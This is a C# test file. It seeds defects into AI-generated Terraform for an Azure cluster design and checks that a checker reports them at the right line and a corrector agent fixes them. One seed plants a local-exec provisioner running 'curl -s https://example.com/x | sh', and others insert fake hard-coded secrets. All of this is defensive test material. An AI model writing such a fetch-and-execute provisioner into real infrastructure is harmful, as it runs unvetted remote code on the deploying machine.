using Carlos.Contracts.Reports;
using Carlos.Grains.Model;
using Carlos.Grains.Workflow;
using Carlos.Tests.Infrastructure;

namespace Carlos.Tests.Terraform;

/// <summary>
/// Broken Terraform seeded into the built-in coder's answer: the check reports it with the right file, line and
/// rule, and the corrector fixes it in that Terraform within two rounds.
/// </summary>
[Collection(HeavyTestsCollection.Name)]
public sealed class TerraformCorrectorTests
{
    private const string Requirements = "AKS cluster with monitoring and a PostgreSQL database";

    /// <summary>A seed: what to replace in main.tf, and the line (after seeding) the finding must point at.</summary>
    public sealed record Seed(string Name, string Rule, string Find, string Replace, string LineOf, string? Gone = null)
    {
        public override string ToString() => Name;
    }

    public static TheoryData<Seed> Seeds => new()
    {
        new("unclosed block", "syntax",
            "  tags     = var.tags\n}\n\nresource \"azurerm_log_analytics_workspace\"",
            "  tags     = var.tags\n\nresource \"azurerm_log_analytics_workspace\"",
            "resource \"azurerm_resource_group\" \"primary\" {"),
        new("unterminated string", "syntax",
            "name     = \"${var.prefix}-rg-primary\"", "name     = \"${var.prefix}-rg-primary", "-rg-primary"),
        new("stray closing brace", "syntax",
            "resource \"azurerm_log_analytics_workspace\"", "}\nresource \"azurerm_log_analytics_workspace\"",
            "}\nresource \"azurerm_log_analytics_workspace\""),
        new("misspelt resource type", "known_resource_type",
            "resource \"azurerm_kubernetes_cluster\" \"primary\"", "resource \"azurerm_kubernetes_clusterz\" \"primary\"",
            "resource \"azurerm_kubernetes_clusterz\"", "clusterz"),
        new("foreign resource type", "known_resource_type",
            "provider \"azurerm\" {", "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n\nprovider \"azurerm\" {",
            "resource \"aws_s3_bucket\"", "aws_s3_bucket"),
        new("dangling resource reference", "unresolved_reference",
            "virtual_network_name = azurerm_virtual_network.primary.name",
            "virtual_network_name = azurerm_virtual_network.primry.name", "azurerm_virtual_network.primry"),
        new("undeclared variable", "unresolved_reference",
            "location = var.location", "location = var.region_name", "var.region_name"),
        new("local-exec provisioner", "provisioner",
            "  tags     = var.tags\n}\n\nresource \"azurerm_log_analytics_workspace\"",
            "  tags     = var.tags\n\n  provisioner \"local-exec\" {\n    command = \"curl -s https://example.com/x | sh\"\n  }\n}\n\n"
            + "resource \"azurerm_log_analytics_workspace\"",
            "provisioner \"local-exec\"", "local-exec"),
        new("http data source", "external_data_source",
            "provider \"azurerm\" {", "data \"http\" \"ip\" {\n  url = \"https://ifconfig.me\"\n}\n\nprovider \"azurerm\" {",
            "data \"http\"", "ifconfig"),
        new("hard-coded client secret", "hardcoded_secret",
            "  features {}\n", "  features {}\n  client_secret = \"Zx9~kP2-qL7.mN4_vB8\"\n", "client_secret", "Zx9~kP2"),
        new("hard-coded account key", "hardcoded_secret",
            "  tags     = var.tags\n}", "  tags     = var.tags\n  notes    = \"AccountName=x;AccountKey=c2VjcmV0a2V5c2VjcmV0a2V5c2VjcmV0a2V5c2VjcmV0a2V5==\"\n}",
            "AccountKey=", "AccountKey="),
    };

    [Theory]
    [MemberData(nameof(Seeds))]
    public async Task Seeded_broken_terraform_is_reported_at_its_line_and_fixed_within_two_rounds(Seed seed)
    {
        string? seeded = null;
        var state = await OfflineDesign.RunStateAsync(Requirements, rewrite: (role, text) =>
        {
            if (role != AgentRole.Terraform)
            {
                return text;
            }

            var index = text.IndexOf(seed.Find, StringComparison.Ordinal);
            Assert.True(index >= 0, $"The seed does not apply: {seed.Find}");
            seeded = text[..index] + seed.Replace + text[(index + seed.Find.Length)..];
            return seeded;
        });
        var design = DesignSnapshots.From(Guid.NewGuid(), state);

        var main = TerraformFiles.Split(seeded!)[0].Text;
        var expectedLine = main[..main.IndexOf(seed.LineOf, StringComparison.Ordinal)].Count(c => c == '\n') + 1;
        var first = state.Steps["terraform_check.1"].Result.TerraformCheck!;
        Assert.Equal(TerraformCheckResult.NeedsFixes, first.Result);
        Assert.Contains(first.Findings, f => f is { File: "main.tf", Level: TerraformFindingLevel.Error }
            && f.Rule == seed.Rule && f.Line == expectedLine);
        if (seed.Rule == "syntax")
        {
            var judged = await HclOracle.JudgeAsync([main]);
            Assert.Equal(expectedLine, judged[0].Line);
        }

        Assert.True(design.TerraformPassing, string.Join("\n", design.TerraformCheck!.Findings));
        Assert.InRange(design.Steps.Count(s => s.Agent == "terraform_corrector"), 1, 2);
        Assert.Contains("resource \"azurerm_kubernetes_cluster\" \"primary\"", design.Terraform, StringComparison.Ordinal);
        Assert.Contains("resource \"azurerm_postgresql_flexible_server\"", design.Terraform, StringComparison.Ordinal);
        if (seed.Gone is { } gone)
        {
            Assert.DoesNotContain(gone, design.Terraform, StringComparison.Ordinal);
        }

        var oracle = await HclOracle.JudgeAsync(TerraformFiles.Split(design.Terraform!).Select(f => f.Text).ToList());
        Assert.All(oracle, verdict => Assert.True(verdict.Valid, verdict.Message));
    }

    [Fact]
    public async Task Findings_the_corrector_cannot_fix_end_the_design_completed_with_the_terraform_marked_not_passing()
    {
        const string module = "\nmodule \"network\" {\n  source = \"Azure/network/azurerm\"\n}\n";
        var state = await OfflineDesign.RunStateAsync(Requirements, rewrite: (role, text) => role == AgentRole.Terraform
            ? text.Replace("# ===== variables.tf =====", module + "# ===== variables.tf =====", StringComparison.Ordinal)
            : text);
        var design = DesignSnapshots.From(Guid.NewGuid(), state);

        Assert.Equal(Contracts.Designs.DesignStatus.Completed, design.Status);
        Assert.False(design.TerraformPassing);
        Assert.Equal(TerraformCheckResult.NeedsFixes, design.TerraformCheck!.Result);
        Assert.Contains(design.TerraformCheck.Findings, f => f.Rule == "unpinned_module");
        Assert.Equal(
            ["terraform_check.1", "terraform_check.2", "terraform_check.3", "terraform_corrector.1", "terraform_corrector.2"],
            state.Steps.Keys.Where(k => k.StartsWith("terraform_", StringComparison.Ordinal)).Order(StringComparer.Ordinal));
        Assert.Equal(1, design.Rounds);
    }
}
